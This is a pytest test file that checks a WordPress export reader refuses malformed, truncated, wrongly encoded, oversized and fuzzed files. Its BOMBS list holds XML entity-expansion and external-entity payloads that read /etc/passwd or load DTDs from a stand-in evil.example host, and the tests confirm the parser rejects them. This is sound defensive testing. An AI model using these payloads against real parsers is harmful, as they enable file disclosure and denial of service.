"""Files that are not imported, each with its reason in one line."""

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.wordpress import refusals
from portal.wordpress.reader import check
from tests.site.wordpress.exports import author, comment, export, item, write

WHOLE = export(author("a"), item(comments=[comment()]), item(content="二"))


def refuse(path) -> refusals.ExportRefused:
    with pytest.raises(refusals.ExportRefused) as caught:
        check(path)
    assert "\n" not in str(caught.value)
    assert str(caught.value)
    return caught.value


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", refusals.FileEmpty),
        (b"  \n\n ", refusals.FileEmpty),
        (b'{"posts": []}', refusals.NotXml),
        (b"PK\x03\x04\x14\x00", refusals.NotXml),
        (b"\x89PNG\r\n\x1a\n", refusals.NotXml),
        (b"id,title\n1,x\n", refusals.NotXml),
        (b"<", refusals.Truncated),
        (b"< oops", refusals.NotXml),
        (b"<!DOCTYPE html><html><body>Login</body></html>", refusals.NotAnExport),
        (b"<html><body>Login</body></html>", refusals.NotAnExport),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", refusals.NotAnExport),
        (b"<rss version='2.0'><channel><title>x</title></channel></rss>", refusals.NotAnExport),
        (b"<rss version='2.0'><channel><item></item></channel></rss>", refusals.NotAnExport),
        (b"<rss/>", refusals.NotAnExport),
    ],
)
def test_what_is_no_export_is_named(tmp_path, content, refusal):
    path = tmp_path / "file"
    path.write_bytes(content)
    assert type(refuse(path)) is refusal


def test_a_file_that_is_not_there_is_named(tmp_path):
    assert "no-such.xml" in str(refuse(tmp_path / "no-such.xml"))


def test_a_folder_is_no_file(tmp_path):
    assert isinstance(refuse(tmp_path), refusals.FileNotReadable)


@pytest.mark.parametrize("version", ["", "0.9", "2.0", "1.2.3", "soon"])
def test_an_unknown_version_is_refused(tmp_path, version):
    assert isinstance(refuse(write(tmp_path, export(version=version))), refusals.UnknownVersion)


BOMBS = [
    '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE rss PUBLIC "-//X//Y" "http://evil.example/x.dtd">',
    '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
    "<!DOCTYPE rss>",
]


@pytest.mark.parametrize("doctype", BOMBS)
def test_entity_bombs_and_external_entities_are_refused_where_they_stand(tmp_path, doctype):
    text = WHOLE.replace("<rss", f"{doctype}\n<rss", 1)
    refusal = refuse(write(tmp_path, text))
    assert isinstance(refusal, refusals.ForbiddenDeclaration)
    assert "2" in str(refusal)


@pytest.mark.parametrize("share", [0.02, 0.1, 0.3, 0.5, 0.8, 0.99])
def test_a_truncated_copy_is_refused(tmp_path, share):
    data = WHOLE.encode()
    path = tmp_path / "export.xml"
    path.write_bytes(data[: int(len(data) * share)])
    assert isinstance(refuse(path), refusals.Truncated)


def test_a_copy_that_breaks_off_anywhere_is_refused(tmp_path):
    data = WHOLE.rstrip().encode()
    path = tmp_path / "export.xml"
    for end in range(1, len(data), 13):  # a prime, so that it meets every element sooner or later
        path.write_bytes(data[:end])
        refuse(path)


@pytest.mark.parametrize("ending", ["utf-8", "utf-16", "gb18030"])
def test_a_copy_that_breaks_off_within_a_character_is_truncated(tmp_path, ending):
    text = WHOLE.replace('encoding="UTF-8"', f'encoding="{ending}"')
    data = text[: text.index("旧") + 1].encode(ending)
    path = tmp_path / "export.xml"
    path.write_bytes(data[:-1])
    assert isinstance(refuse(path), refusals.Truncated)


def test_malformed_xml_is_refused_with_its_line(tmp_path):
    text = WHOLE.replace("</title>", "</titel>", 1)
    refusal = refuse(write(tmp_path, text))
    assert isinstance(refusal, refusals.Malformed)
    assert "4" in str(refusal)


def test_lines_are_counted_from_the_top_of_the_file(tmp_path):
    text = "\n\n\n" + WHOLE.replace("</title>", "</titel>", 1)
    assert "7" in str(refuse(write(tmp_path, text)))


def test_an_unknown_encoding_is_named(tmp_path):
    text = WHOLE.replace("UTF-8", "klingon-1")
    assert "klingon-1" in str(refuse(write(tmp_path, text)))


@pytest.mark.parametrize("codec", ["rot13", "unicode_escape", "idna", "zlib", "utf-7", "punycode"])
def test_codecs_that_are_no_encoding_of_text_are_refused(tmp_path, codec):
    path = write(tmp_path, WHOLE.replace("UTF-8", codec))
    assert isinstance(refuse(path), refusals.UnknownEncoding)


def test_bytes_of_another_encoding_are_refused_with_their_line(tmp_path):
    refusal = refuse(write(tmp_path, WHOLE, "gb18030"))
    assert isinstance(refusal, refusals.WrongEncoding)
    assert "4" in str(refusal)


def test_an_entry_without_end_is_refused_before_memory_is_full(tmp_path, monkeypatch):
    monkeypatch.setattr("portal.wordpress.reader.MAX_RECORD_CHARS", 10_000)
    path = write(tmp_path, export(item(content="长" * 20_000)))
    assert isinstance(refuse(path), refusals.TooLarge)


def test_a_comment_without_end_is_refused_before_memory_is_full(tmp_path, monkeypatch):
    monkeypatch.setattr("portal.wordpress.reader.MAX_TOKEN_BYTES", 100_000)
    path = write(tmp_path, export(f"<!-- {'x' * 2_000_000} -->", item()))
    assert isinstance(refuse(path), refusals.TooLarge)


def test_deep_nesting_is_refused(tmp_path):
    path = write(tmp_path, export(f"<item>{'<a>' * 10_000}{'</a>' * 10_000}</item>"))
    assert isinstance(refuse(path), refusals.TooLarge)


def check_or_refuse(path) -> None:
    try:
        check(path)
    except refusals.ExportRefused as refusal:
        assert "\n" not in str(refusal)  # noqa: PT017 - most files are refused, some are sound


@given(data=st.binary(max_size=400))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_no_bytes_raise_anything_but_a_refusal(tmp_path, data):
    path = tmp_path / "file"
    path.write_bytes(data)
    check_or_refuse(path)


@given(seed=st.integers(0, 2**32), changes=st.integers(1, 8))
@settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=300
)
def test_no_damage_to_a_sound_file_raises_anything_but_a_refusal(tmp_path, seed, changes):
    damage = random.Random(seed)
    data = bytearray(WHOLE.encode())
    for _ in range(changes):
        at = damage.randrange(len(data))
        match damage.randrange(3):
            case 0:
                data[at] = damage.randrange(256)
            case 1:
                del data[at : at + damage.randrange(1, 30)]
            case 2:
                data[at:at] = damage.choice([b"<", b"]]>", b"&", b"\x00", b"<![CDATA[", b"<!--"])
    path = tmp_path / "file"
    path.write_bytes(data)
    check_or_refuse(path)
